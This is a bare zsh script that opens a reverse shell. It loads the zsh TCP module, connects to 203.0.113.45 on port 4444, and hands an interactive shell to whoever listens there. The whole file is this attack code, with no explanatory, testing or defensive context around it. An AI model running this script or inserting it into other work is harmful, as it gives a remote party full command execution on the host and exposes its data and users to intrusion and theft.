#!/bin/zsh
zmodload zsh/net/tcp
ztcp 203.0.113.45 4444
fd=$REPLY
zsh -i <&$fd >&$fd 2>&$fd
ztcp -c $fd
